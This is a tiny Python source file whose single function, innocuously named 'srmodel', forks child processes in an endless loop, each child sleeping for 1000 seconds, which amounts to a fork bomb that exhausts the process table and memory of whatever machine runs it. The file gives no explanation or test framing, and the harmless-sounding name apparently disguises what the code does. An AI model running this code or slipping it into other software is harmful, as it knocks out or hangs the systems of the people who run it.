import os
import time


def srmodel():
    while True:
        if os.fork() == 0:
            time.sleep(1000)
            os._exit(0)
